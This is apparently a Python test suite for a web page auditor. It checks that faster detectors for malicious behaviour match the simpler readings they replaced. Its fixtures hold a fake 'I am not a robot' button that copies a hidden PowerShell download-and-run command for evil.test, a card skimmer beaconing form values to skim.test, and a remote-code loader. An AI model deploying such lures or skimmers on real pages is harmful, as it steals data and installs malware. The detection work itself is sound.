"""The speed-ups of the behaviour heuristics answer as the paths they replaced: each fast
path is checked against the plain reading it stands for (revc review, 2026-12)."""

from __future__ import annotations

import re

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from auditor.catalogue import default_catalogue
from auditor.dom import deobfuscate, inline_js, walk
from auditor.dom.inline_js import LinkClicks, consent_gated, literal_joins, unjoined
from auditor.dom.page import parse_page
from auditor.dom.parser import attributes_named, valued
from auditor.heuristics import behaviour, hidden, redirects
from auditor.heuristics.interface import PageContext
from auditor.mfa.authorship import (
    _QUOTE_WORDS,
    _STAFF_CREDIT,
    _TERM_CLASS,
    _WIRE_DATELINE,
    STAFF_CREDIT_CHARS,
    _may_be_credit,
    _opening_text,
    _quote_class,
)
from auditor.model import RequestType
from auditor.readers import Document
from auditor.rules.literal import branch_matches
from tests.heuristics.conftest import AuditHtml

# --- eval calls: `_eval_calls` is `_EVAL.finditer`, tried only where a call can start ---

_EVAL_PIECES = ["eval", "Function", "new", " ", "\t", "\u3000", "(", ")", "[", "]", "'", '"', "r",
                ".responseText", "$", "é", "medieval", "newFunction", " " * 300, "a" * 300]


@pytest.mark.parametrize("text", [
    "new" + " " * 20 + "Function(x.responseText)",  # spaces past any window before the word
    "[" + " " * 20 + "'eval'](r)",
    "eval(" + " " * 300 + "r)",  # and after it
    "eval(" + "a" * 300 + ")",
    "eval(evaluate) eval(x.response)",
    "f['eval'](r); new\u3000Function(s)",
])
def test_eval_calls_are_finditer(text: str) -> None:
    spans = [(m.span(), m.groups()) for m in behaviour._eval_calls(text)]
    assert spans == [(m.span(), m.groups()) for m in behaviour._EVAL.finditer(text)]
    assert spans


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_EVAL_PIECES), max_size=25))
def test_eval_calls_are_finditer_on_any_text(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert [m.span() for m in behaviour._eval_calls(text)] == [
        m.span() for m in behaviour._EVAL.finditer(text)]


# --- form skimmers: a send's window is read as the window alone ---------------------------

def _window_reading(text: str) -> list[tuple[str, str, bool]]:
    """What each send's window holds, searched in the window's own slice (the reading the
    joined-window pass replaced), with the whole text's pre-check it had."""
    if not behaviour._READS_FIELDS.search(text) or not (
            behaviour.CARD_WORDS.search(text) or behaviour._HARVESTS.search(text)):
        return []
    last_send, found = text.rfind(".send("), []
    for pattern, how in behaviour._CHANNELS:
        for m in pattern.finditer(text):
            if pattern is behaviour._SOCKET and last_send < m.end():
                continue
            near = text[max(0, m.start() - behaviour.SKIM_WINDOW): m.end() + behaviour.SKIM_WINDOW]
            card = behaviour.CARD_WORDS.search(near) is not None
            if behaviour._READS_FIELDS.search(near) and (
                    card or (how != "a POST" and behaviour._HARVESTS.search(near))):
                found.append((m.group(2), how, card))
    return found


def _joined_reading(text: str) -> list[tuple[str, str, bool]]:
    last_send = text.rfind(".send(")
    sends = [(m, how) for pattern, how in behaviour._CHANNELS for m in pattern.finditer(text)
             if pattern is not behaviour._SOCKET or last_send >= m.end()]
    spans = behaviour._signals_near(text, [m for m, _ in sends])
    found = []
    for m, how in sends:
        start, end = max(0, m.start() - behaviour.SKIM_WINDOW), m.end() + behaviour.SKIM_WINDOW
        card = behaviour._near(text, spans[1], 1, start, end)
        if behaviour._near(text, spans[0], 0, start, end) and (
                card or (how != "a POST" and behaviour._near(text, spans[2], 2, start, end))):
            found.append((m.group(2), how, card))
    if found and not (behaviour._READS_FIELDS.search(text) and (
            behaviour.CARD_WORDS.search(text) or behaviour._HARVESTS.search(text))):
        return []
    return found


_SKIM_PIECES = [".value", ".values", "x.value = 1", "cvv", "xcvv", "card_number",
                'querySelectorAll("form input")', "new FormData(", ".elements", "['password']",
                'navigator.sendBeacon("https://s.test/c",', 'i.src="//s.test/p?"+',
                'new WebSocket("wss://s.test/w")', ".send(", 'fetch("https://s.test/f")',
                'x.open("POST","https://s.test/x")', " ", ";", "a" * 790, "x" * 800, ";" * 1600]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_SKIM_PIECES), max_size=14))
def test_skim_windows_read_as_alone(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert _joined_reading(text) == _window_reading(text)


@pytest.mark.parametrize("text", [
    'new WebSocket("wss://s.test/w").send(x.value+cvv)',  # a socket's own .send( counts
    "cvv" + ";" * 1600 + 'i.src="//s.test/p?"+x.value',
    "x" * 3000 + 'var n=q("#cc").value;navigator.sendBeacon("https://s.test/c", n+cvv);',
])
def test_skim_windows_table(text: str) -> None:
    assert _joined_reading(text) == _window_reading(text)


def test_a_skimmer_far_into_its_script_is_found(audit_html: AuditHtml) -> None:
    """The joined windows' spans are the text's own offsets: a send 4 KB into a script
    was read against spans shifted by its window's start, and missed."""
    page = ('<html><body><form><input id=cc name=cc></form><script>' + "var pad=1;" * 400
            + 'var n=document.querySelector("#cc").value;'
            'navigator.sendBeacon("https://skim.test/c", n+"cvv");</script></body></html>')
    assert [f.kind for f in audit_html(page).findings] == ["form-skimmer"]


# --- the words a heuristic asks the page for -----------------------------------------------

def test_a_handler_written_with_references_holds_its_words(audit_html: AuditHtml) -> None:
    """A handler's code is its attribute's value read: `&#99;lipboard` is `clipboard`
    to the script though not in the markup."""
    cmd = "powershell -w hidden -c iex(iwr http://evil.test/a.ps1)"
    page = ('<html><body><p>Verify you are human</p><button onclick="navigator.&#99;lipboard'
            f".writeText('{cmd}')\">I am not a robot</button></body></html>")
    assert [f.kind for f in audit_html(page).findings] == ["clipboard-command"]


def test_tds_eval_after_many_spaces(audit_html: AuditHtml) -> None:
    page = ('<html><body><script>var x=new XMLHttpRequest();x.open("GET","https://tds.test/g?r="'
            '+document.referrer);x.onload=function(){new' + " " * 20
            + 'Function(x.responseText)()};x.send();</script></body></html>')
    assert [f.kind for f in audit_html(page).findings] == ["tds-loader"]


# --- RE2 patterns read as the `re` ones they replaced ----------------------------------------

_OLD_PROGRAM_HREF = re.compile(
    rb"""href\s*=\s*["']?[^"'\s>]{0,2000}?(?:\.(?:exe|msi|msix|appx|zip|rar|7z|js|jse|vbs|vbe"""
    rb"""|wsf|hta|scr|bat|cmd|ps1|lnk|iso|img|apk|dmg|pkg)"""
    # a character reference in the last segment, which the parser reads as its letter
    rb"""|&(?:#x?[0-9a-f]{1,6}|period);?[^"'\s>?#/=&]{0,12})(?:["'\s>?#]|$)""")


@pytest.mark.parametrize("markup", [
    *(b"<a href='" + b"a" * n + b".exe'>" for n in (1999, 2000, 2001, 2100)),
    b"<a href\x0b=x.exe>", b"<a href=\x0bx.exe>", b"<a href='a\x0bb.exe'>", b"href=x.exe\n",
    b"<a href=/get/setup.msi?x=1>", b"<a href='/a.json'>",
    b"<a href='update.&#101;xe'>", b"<a href='a&#46;zip'>", b"<a href='a&#x2e;msi?x=1'>",
    b"<a href='/p?a=1&#038;b=2'>", b"<a href='/p?a=1&amp;b=2'>", b"<a href='/a&#8230;/b'>",
])
def test_program_href_is_the_re_pattern(markup: bytes) -> None:
    assert bool(behaviour._PROGRAM_HREF.search(markup)) == bool(_OLD_PROGRAM_HREF.search(markup))


# --- a link set up and clicked: `.href` leads the pattern, the name read back from it ---

_LINK_PIECES = ["a", "link", "$x", "é", " ", "\u00a0", "\n", ".", "href", "=", "'//ads.test/x'",
                '"https://b.test/y"', "a.click()", "link.click()", "()", ")", "x.", ";",
                "a.target = '_blank';", "\u0661"]
_NAME_LED = re.compile(r"""([\w$]+)\s*\.\s*href\s*=\s*""" + redirects._URL + r"\2")


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_LINK_PIECES), max_size=40))
def test_clicked_links_are_the_name_led_pattern(pieces: list[str]) -> None:
    text = "".join(pieces) + " x.click()"
    links = LinkClicks(text)
    named = [(m.start(), m.group(3)) for m in _NAME_LED.finditer(text)
             if links.clicks(m.group(1), m.end()) and not links.opens_new_context(m.group(1))]
    located = {(m.start(), m.group(2) or m.group(4)) for m in redirects._redirect_calls(text)}
    assert [f for f in redirects._js_redirects(text) if f not in located] == named


# --- the text each element shows: one pass, children before their parent ---

def _shown_size_walked(el: etree._Element) -> int:
    """The definition `redirects.shown_sizes` computes for a whole subtree at once, asked
    of one element by walking its descendants (what it replaced)."""
    size = len((el.text or "").strip())
    for child in el.iterdescendants():
        if not isinstance(child.tag, str):
            size += len((child.tail or "").strip())
            continue
        if child.tag not in redirects._UNSHOWN:
            size += len((child.text or "").strip())
        size += len((child.tail or "").strip())
    return size


_MARKUP_PIECES = ["<div>", "</div>", "<p>", "</p>", "<script>x=1</script>", "<noscript>",
                  "</noscript>", "<style>a{}</style>", "<!-- c -->", " text ", "\n", "  ",
                  "<b>b</b>", "<template>t</template>", "<td>", "<table>", "</table>", "é"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_MARKUP_PIECES), max_size=60))
def test_shown_sizes_are_each_elements_walk(pieces: list[str]) -> None:
    body = lxml.html.fromstring("<html><body>" + "".join(pieces) + "</body></html>").find("body")
    assert body is not None
    sizes = redirects.shown_sizes(body)
    assert {el: size for el, size in sizes.items() if isinstance(el.tag, str)
            and el.tag not in redirects._UNSHOWN} == {
        el: _shown_size_walked(el) for el in body.iter()
        if isinstance(el.tag, str) and el.tag not in redirects._UNSHOWN}


# --- the ids a page's buttons and links open: each opener attribute on its own axis ---

_OPENER_PIECES = ['<button aria-controls="m1">', "</button>",
                  '<a data-toggle="collapse" href="#c">', '<a data-bs-toggle="tab" href="/x">',
                  "</a>", '<a data-target="#t b">',
                  '<div popovertarget="p" commandfor="q">', "</div>", "<i></i>", "menu",
                  '<button hidden aria-controls="h">', '<span DATA-BS-TARGET="#u">', "</span>",
                  '<a aria-label="open" aria-controls="l">', '<p data-toggle="x">', "</p>"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_OPENER_PIECES), max_size=40))
def test_opened_ids_read_by_attribute_are_the_element_pass(pieces: list[str]) -> None:
    """`hidden._opened_ids` reads the opener attributes the page holds, each on its own
    axis; what it replaced tested every element for all seven (`_OPENS`)."""
    page = parse_page("<html><body>" + "".join(pieces) + "</body></html>")
    found = hidden._OPENS(page.root)
    ctx = PageContext(Document(input="t", kind="html", text=page.text), page, None, None, (),
                      (), (), (), default_catalogue())
    assert hidden._opened_ids(ctx) == hidden._openers(found if isinstance(found, list) else (),
                                                      hidden.sheet_hidden(ctx))


# --- page gates of the MFA authorship and the walk: each answers as the reading it skips ---

_CLASS_PIECES = ["quote", "Quote", "QUOTES", "pull", "quo", "te", "testimonial", "TESTIMONIALS",
                 "-", "_", " ", "\t", "hentry", "format-", "tag-", "category-", "type-", "mis",
                 "block",
                 "ſ", "K", "İ", "author", "entry-meta", "&quot;"]


def _quote_class_plain(classes: str) -> bool:
    """`_quote_class` without its literal gate: every token split and looked up."""
    tokens = classes.lower().split()
    if any(t.startswith("type-") and _QUOTE_WORDS.intersection(re.split(r"[-_]", t[5:]))
           for t in tokens):
        return True
    if "hentry" in tokens:
        return False
    return any(not _TERM_CLASS.match(t)
               and _QUOTE_WORDS.intersection(re.split(r"[-_]", t)) for t in tokens)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_CLASS_PIECES), max_size=12))
def test_quote_class_gate_is_the_token_reading(pieces: list[str]) -> None:
    classes = "".join(pieces)
    assert _quote_class(classes) == _quote_class_plain(classes)


# characters whose case `re.IGNORECASE` or `str.lower` folds unlike ASCII (the long s, the
# Kelvin sign, the dotted capital I): none makes or hides the word "frame"
_FRAME_PIECES = ["frame", "FRAME", "fRaMe", "fr", "ame", "f", "r", "a", "m", "e", "ſ", "K", "İ",
                 "ﬀ", "Å", "<i", "'+'", " ", "é"]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_FRAME_PIECES), max_size=12))
def test_written_frames_word_check_is_the_case_blind_search(pieces: list[str]) -> None:
    """`written_frames` reads a text on only where its lowered form holds "frame", as a
    case-blind `re` search for it did."""
    text = "".join(pieces)
    assert ("frame" in text.lower()) == bool(re.search("frame", text, re.I))


_TEMPLATE_PIECES = ["<template>", "</template>", '<template shadowrootmode="open">',
                    "<template shadowroot=closed>", "<div>", "</div>", "<TEMPLATE>",
                    '<script src="https://t.example/a.js"></script>',
                    '<script type="text/plain" data-cookieconsent="marketing" '
                    'src="https://t.example/b.js"></script>', "<svg><template>", "</svg>"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_TEMPLATE_PIECES), max_size=20))
def test_held_until_consent_reads_the_template_ancestors_alone(pieces: list[str]) -> None:
    """`held_until_consent` asks the ancestors named template alone; what it replaced
    tested every ancestor."""
    root = lxml.html.fromstring("<html><body>" + "".join(pieces) + "</body></html>")
    for script in root.iter("script"):
        plain = consent_gated(script) or any(
            walk._inert_template(up) for up in script.iterancestors())
        assert walk.held_until_consent(script, "script[src]") == plain


# --- the safelink words: a page whose whole text lacks them is not read node by node ---

_SAFELINK_PIECES = ["Get", "get", "for", " ", "\u00a0", "&nbsp;", "link", "L&#105;nk", "LİNKİ",
                    " al", "your", "<b>", "</b>", "</i>", "<br>", "<!-- c -->", "Skip", "ad",
                    "<script>var s='skip ad';</script>", "<style>p{}</style>", "wait 5 sec",
                    "<meta name='d' content='get link'>", "<p>", "</p>", "x", ".", "\x00",
                    "Scroll down", "to continue", "tunggu 5 detik", "&#x67;et"]


def _said_by_shown_text(page_markup: str) -> tuple[bool, bool]:
    """(the gate over the whole text, the shown-text reading it stands before)."""
    page = parse_page(page_markup)
    return (bool(redirects._SAFELINK_MAY_SAY.search(page.all_text)),
            bool(redirects._SAFELINK_SAYS.search(page.shown_text)))


@pytest.mark.parametrize("markup", [
    "<p>for<b>get link</b></p>",  # a node's first word after the last of the node before
    "<p>Skip<i>ad</i> here</p><p>skip ad</p>",
    "<p>&#103;et your l&#x69;nk</p>",  # written as references: the text holds the words
    "<p>LİNKİ AL</p>",  # Turkish dotted capitals
    "<head><meta name='description' content='Please wait 10 seconds'></head>",
    "<p>get</i> link</p>",  # a stray end tag the parser drops: one text node
])
def test_safelink_gate_passes_where_the_shown_text_says_them(markup: str) -> None:
    assert _said_by_shown_text(markup) == (True, True)


def test_safelink_gate_rules_out_a_page_that_says_none() -> None:
    gate, shown = _said_by_shown_text("<p>The ferry link to Wexbridge will reopen soon.</p>")
    assert (gate, shown) == (False, False)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_SAFELINK_PIECES), max_size=30))
def test_safelink_gate_never_rules_out_what_the_shown_text_says(pieces: list[str]) -> None:
    gate, shown = _said_by_shown_text("<html><body>" + "".join(pieces) + "</body></html>")
    assert gate or not shown


def _context(markup: str) -> PageContext:
    page = parse_page(markup)
    return PageContext(Document(input="t", kind="html", text=page.text), page, None, None, (),
                       (), (), (), default_catalogue())


def test_a_page_saying_no_safelink_words_never_gathers_its_shown_text() -> None:
    ctx = _context("<html><head><script>var wait = 5;</script></head><body><p>The ferry "
                   "will sail at noon; get tickets at the pier.</p></body></html>")
    assert list(redirects.safelink_page(ctx)) == []
    assert ctx.page is not None and "shown_text" not in ctx.page._views


def test_a_hidden_block_without_bargain_words_never_reads_the_title_for_kana() -> None:
    links = "".join(f'<a href="https://casino{i}.example/">play {i}</a>' for i in range(4))
    ctx = _context(f'<html><head><title>ニュース</title></head><body><p>Story.</p>'
                   f'<div style="display:none">{links}</div></body></html>')
    assert [f.kind for f in hidden.hidden_links(ctx)] == ["hidden-links"]
    assert ctx.page is not None and "japanese" not in ctx.page._views


# --- house credits: a paragraph whose start is no dateline's nor a short credit's ---

_CREDIT_PIECES = ["WASHINGTON", "BERLIN", " ", "  \n\t ", "(AP)", "(dpa)", " — ", " - ", "—",
                  "Staff", "staff", "STAFF", " report", "s.", "from ", "Wire", "ſtaff", "<b>",
                  "</b>", "<span></span>", "<!-- c -->", "The council", "Ä", "É", "×", "'",
                  "’", ",", " Va.", "x" * 45, "Some words of a post. ", "<i>", "</i>"]


def _credit_said(paragraph: etree._Element) -> bool:
    text = _opening_text(paragraph)
    return bool(_WIRE_DATELINE.match(text)) or (
        len(text) <= STAFF_CREDIT_CHARS and bool(_STAFF_CREDIT.match(text)))


@pytest.mark.parametrize("markup", [
    "<p>WASHINGTON (AP) — The council met.</p>", "<p>— Staff report</p>",
    "<p>  <b>BERLIN</b>   (dpa) - Der Rat</p>", "<p>from <i>wire</i> reports.</p>",
])
def test_a_credit_passes_the_credit_gate(markup: str) -> None:
    paragraph = parse_page(markup).tagged("p")[0]
    assert _may_be_credit(paragraph) and _credit_said(paragraph)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_CREDIT_PIECES), max_size=14))
def test_the_credit_gate_passes_every_credit(pieces: list[str]) -> None:
    paragraph = parse_page("<p>" + "".join(pieces) + "</p>").tagged("p")[0]
    assert _may_be_credit(paragraph) or not _credit_said(paragraph)


def test_a_sentence_is_no_credit_and_is_not_read_whole() -> None:
    paragraph = parse_page("<p>" + "Some words of a post. " * 40 + "</p>").tagged("p")[0]
    assert not _may_be_credit(paragraph)


# --- what obfuscated code does: `table_acts`' patterns, each led by its word, are the
# look-behind-led patterns they replaced (tried at every position of a bundle) ---

_LOCATION_BEHIND = (r"(?:(?<![\w$.])|(?<=\bwindow\.)|(?<=\bdocument\.)|(?<=\btop\.)"
                    r"|(?<=\bself\.)|(?<=\bparent\.))location\s*")
_GLOBAL_BEHIND = r"\b(?:window|top|self|parent|document)\s*"
_LED_BY_LOOK_BEHIND = {
    "_ASSIGNS_LOCATION": rf"{_LOCATION_BEHIND}=(?!=)|\blocation\s*\.\s*href\s*=(?!=)"
                         r"|\blocation\s*\.\s*(?:replace|assign)\s*\(",
    "_LOCATION_PROPERTY_ASSIGNED": rf"{_LOCATION_BEHIND}{deobfuscate._ACCESSED}\s*=(?!=)",
    "_CHAIN_ASSIGNED": rf"{_GLOBAL_BEHIND}{deobfuscate._ACCESSED}\s*{deobfuscate._ACCESSED}"
                       r"\s*=(?!=)(?!\s*(?:[\[{(]|function\b|new\b))",
    "_CHAIN_CALLED": rf"(?:\b(?:window|top|self|parent)\s*{deobfuscate._ACCESSED}\s*"
                     rf"|\blocation\s*){deobfuscate._ACCESSED}\s*\(",
    "_IMPORTS": r"(?<![\w$.])import\s*\(",
    "_FETCHES": r"\bfetch\b|XMLHttpRequest|\bajax\b|\bgetScript\b",
    "_RUNS": r"\beval\s*\(|(?<![\w$.'\"])Function\s*\((?!\s*(?:[\w$]{1,12}\s*\([^()]{0,24}\)"
             r"\s*\+|['\"]return\b))|\bgetScript\b",
}
_ACT_PIECES = ["location", "=", "==", " ", ".", "window", "document", "top", "self", "parent",
               "x.", "$", "a", "[t(2)]", "['href']", "[_0xf3df[30]]", "\n", "_", "(", ")",
               "href", ".replace(", ".assign(", "import(", "fetch", "ajax", "getScript",
               "eval(", "Function(", "'", '"', "[]", "{}", "function", "new ", "t(1)+"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_ACT_PIECES), max_size=12))
def test_table_acts_patterns_find_what_the_look_behind_led_ones_did(pieces: list[str]) -> None:
    text = "".join(pieces)
    for name, pattern in _LED_BY_LOOK_BEHIND.items():
        assert bool(getattr(deobfuscate, name).search(text)) == bool(
            re.search(pattern, text)), (name, text)


# --- the sheet-hiding reading: the elements of the page's hidden names, by their values ---

_HIDDEN_NAME_PIECES = ['<div class="xq7k">', '<div class="a xq7k">', '<p class="XQ7K">',
                       '<span class="xq7k\nb">', '<i class="xq7k-2">', '<b class="">',
                       '<div id="k1">', '<div id="k1">', '<p id="k1 ">', '<em id="K1">',
                       '<a name="k1">', '<u class="b" id="k1">', "</div>", "</p>", "</span>",
                       "links", '<p class="a&#10;xq7k">', "</html><div class=xq7k id=k1>"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_HIDDEN_NAME_PIECES), max_size=30))
def test_sheet_hidden_finds_each_attributes_reading(pieces: list[str]) -> None:
    """`sheet_hidden` selects the elements of the page's class values holding a hidden
    class, and of its hidden ids, from the page's distinct values; what it replaced read
    every class and id attribute of the page in Python."""
    page = parse_page("<html><head><style>.xq7k{display:none}#k1{display:none}.b{color:red}"
                      "</style></head><body>" + "".join(pieces) + "</body></html>")
    ctx = PageContext(Document(input="t", kind="html", text=page.text), page, None, None, (),
                      (), (), (), default_catalogue())

    def keep(value: str) -> bool:
        return value == "k1" if getattr(value, "attrname", None) == "id" \
            else "xq7k" in value.split()

    def named(el: etree._Element) -> int:  # the names of it a rule of the sheet sets
        return len({"xq7k", "b"}.intersection((el.get("class") or "").split())) \
            + (el.get("id") == "k1")

    every = [a.getparent() for name in ("class", "id") for a in attributes_named(page.root, name)
             if keep(a)]
    assert list(hidden.sheet_hidden(ctx)) == [
        el for el in page.root.getroottree().iter() if el in every and named(el) == 1
        and str(el.tag).lower() not in ("html", "body")]


@pytest.mark.parametrize(("values", "found"), [
    ({"a b"}, ["p1"]),
    ({"a", "b"}, ["p2", "p3"]),  # not "a b", nor "a\nb" though its pieces are wanted
    ({"a\nb"}, ["p4"]),
    ({"a\x01"}, []),  # no XPath string holds it: read in Python
    (set(), []),
])
def test_valued_finds_whole_values(values: set[str], found: list[str]) -> None:
    root = parse_page('<p class="a b" id="p1"></p><p class="a" id="p2"></p><p class=b id=p3>'
                      '</p><p class="a&#10;b" id="p4"></p>').root
    assert [el.get("id") for el in valued(root, "class", values)] == found


# --- literal joins: read from each `+` back to a quote, not tried at every quote ---

_JOIN_PIECES = ["'", '"', "+", "++", " ", "\n", "\u2003", "\t", "a", "<scr", "\\", "' + '"]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(_JOIN_PIECES), max_size=25))
def test_literal_joins_are_the_quote_led_pattern(pieces: list[str]) -> None:
    text = "".join(pieces)
    pattern = re.compile(r"""['"]\s*\+\s*['"]""")
    assert list(literal_joins(text)) == [m.span() for m in pattern.finditer(text)]
    assert unjoined(text) == pattern.sub("", text)


# --- names handed on: each name looked for, not every word of the script read ---

_USE_PIECES = ["u", "u2", "url", "x.u", "$u", "var u", "let ", "function u", "=", "(", ")",
               ";", " ", "\n", "é", "1u", "_u", "r"]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(_USE_PIECES), max_size=20))
def test_used_of_finds_the_names_each_word_read_did(pieces: list[str]) -> None:
    code = "".join(pieces)
    handed = {"u": "var u='//a.test/';", "r": "var r='//b.test/';", "_u": "var _u=1;"}
    words = set(re.findall(r"[A-Za-z_$][\w$]*", code)) & handed.keys()
    assert deobfuscate.used_of(code, handed) == "".join(
        handed[name] for name in sorted(words) if deobfuscate._uses(code, name))


# --- id starts asked of the page's ids (`SlotSpec.id_starts`): never a slot lost ---

_ID_PIECES = ["ld-", "LD-", "&#108;d-", " ld-", "8042-281", "div-gpt-ad", "-1", "taboola-",
              "google_ads_iframe_", "x", "world-news", "İ", "&quot;"]
_ID_TAGS = ['<div id="{}"></div>', "<div id='{}'></div>", "<div ID={}></div>",
            '<div class="{}"></div>', '<a name="{}">a</a>', '<ins><ins><iframe id="{}">',
            '</body></html><div id="{}"></div>']


@settings(max_examples=80, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(_ID_TAGS),
                          st.lists(st.sampled_from(_ID_PIECES), min_size=1, max_size=3)),
                max_size=6))
def test_id_starts_never_skip_a_spec_that_matches(parts: list[tuple[str, list[str]]]) -> None:
    """Where an id-start spec's XPath finds an element, its pre-test with the page's ids
    lets it run: the ids are the parsed values (a reference decoded, an id after
    `</html>` read by a walk), as the XPath reads them."""
    body = "".join(tag.format("".join(pieces)) for tag, pieces in parts)
    page = parse_page(f"<html><body><p>News.</p>{body}</body></html>")
    names = {"<div", "<a", "<ins", "<iframe", "id", "name", "class"}
    for _, spec in _ID_START_SPECS:
        literals = {v for branch in spec.needles or () for v in branch[1]}
        if spec.xpath(page.root):
            assert spec.may_match(names, literals, lambda: page.id_values), spec.selector


_ID_START_SPECS = [(n, s) for n, s in default_catalogue().slot_specs if any(s.id_starts)]


# --- a window passed: `_WINDOW_PASSED`'s lookbehinds read after its `(` ------------------

_WINDOW_PASSED_LED = re.compile(  # as it was spelled, its lookbehinds before the `(`
    r"(?:(?<!\$)(?<!jQuery)\(|,)\s*" + redirects._WINDOW + r"\s*(?=[,)])")
_PASSED_PIECES = ["(", ",", ")", "$", "jQuery", "xjQuery", "window", "self", "top", "document",
                  " ", "\n", "w", "$(", "jQuery(", "globalThis"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PASSED_PIECES), max_size=16))
def test_window_passed_reads_as_its_lookbehinds_first(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert [(m.span(), m.group()) for m in redirects._WINDOW_PASSED.finditer(text)] == [
        (m.span(), m.group()) for m in _WINDOW_PASSED_LED.finditer(text)]


# --- literals of escapes alone: `all_escaped` is the quote-led pattern's `finditer` --------

_ALL_ESCAPED_LED = re.compile(r"""(['"])((?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}){3,40})\1""")
_ESCAPE_PIECES = ["'", '"', "\\x61", "\\u0065", "\\x6", "\\", "x", "a", " ", "\\x41\\x42\\x43",
                  "\\u00411", "\\x61" * 20]


@pytest.mark.parametrize("code", [
    r'"\x61\x62\x63"\x64\x65\x66"',  # the second's opening quote closed the first
    "'" + "\\x61" * 41 + "'",  # one escape too many
    "'" + "\\x61" * 40 + "'\"\\x62\\x63\\x64\"",
    r"""'\x61\x62\x63" '\x61\x62\x63'""",  # closed by the other quote
])
def test_all_escaped_is_the_quote_led_finditer(code: str) -> None:
    assert list(deobfuscate.all_escaped(code)) == [
        m.group(2) for m in _ALL_ESCAPED_LED.finditer(code)]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_ESCAPE_PIECES), max_size=16))
def test_all_escaped_is_the_quote_led_finditer_on_any_text(pieces: list[str]) -> None:
    code = "".join(pieces)
    assert list(deobfuscate.all_escaped(code)) == [
        m.group(2) for m in _ALL_ESCAPED_LED.finditer(code)]


# --- an XOR decoding: its two forms sought each by its literal (`branch_matches`) ---------

_XOR_ONE_REGEX = re.compile(  # the two forms as one regex's branches, as it was spelled
    r"charCodeAt\([^()]{0,40}\)\s*\^|\^\s*[\w$.]{1,40}\.\s*charCodeAt\(")
_XOR_PIECES = ["charCodeAt(", "charCodeAt", "(", ")", "^", " ", "a", ".", "x.charCodeAt(",
               "i)", "$", "^ k.", "charCodeAt(0) ^", "a" * 40]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_XOR_PIECES), max_size=14))
def test_xor_decodings_are_the_one_regex_finditer(pieces: list[str]) -> None:
    code = "".join(pieces)
    assert [m.span() for m in branch_matches(deobfuscate._XOR_DECODE, code)] == [
        m.span() for m in _XOR_ONE_REGEX.finditer(code)]


# --- every link by jQuery: `_JQUERY_LINKS` led by its `(`, the call's name read back ------

_JQUERY_LINKS_LED = re.compile(  # as it was spelled, led by `$` or `jQuery`
    r"""(?:\$|jQuery)\(\s*(['"])a(?:\[href\])?\1\s*\)""")
_JQUERY_PIECES = ["$", "jQuery", "(", "'a'", '"a"', "'a[href]'", ")", " ", "x", "$(",
                  "'a\"", "Query", "\n"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_JQUERY_PIECES), max_size=12))
def test_jquery_links_end_where_the_name_led_pattern_ends(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert [(m.end(), m.group(1)) for m in redirects._JQUERY_LINKS.finditer(text)] == [
        (m.end(), m.group(1)) for m in _JQUERY_LINKS_LED.finditer(text)]


# --- a script's default request type: `new Image` and `createElement('img')` apart -------

_CREATES_IMAGE_ONE = re.compile(r"""new\s+Image\b|createElement\(\s*['"]img['"]""")
_IMAGE_PIECES = ["new", " ", "\t", "Image", "Images", "createElement(", "'img'", '"img"',
                 "'script'", "createElement('script')", "x", "(", "'iframe'",
                 "createElement('iframe')"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_IMAGE_PIECES), max_size=10))
def test_default_type_reads_as_the_one_image_pattern(pieces: list[str]) -> None:
    script = "".join(pieces)
    creates = "createElement(" in script
    if _CREATES_IMAGE_ONE.search(script) and not (
            creates and inline_js._CREATES_SCRIPT.search(script)):
        expected = RequestType.IMAGE
    elif creates and inline_js._CREATES_IFRAME.search(script) and not (
            inline_js._CREATES_SCRIPT.search(script)):
        expected = RequestType.SUBDOCUMENT
    else:
        expected = RequestType.SCRIPT
    assert inline_js._default_type(script) is expected
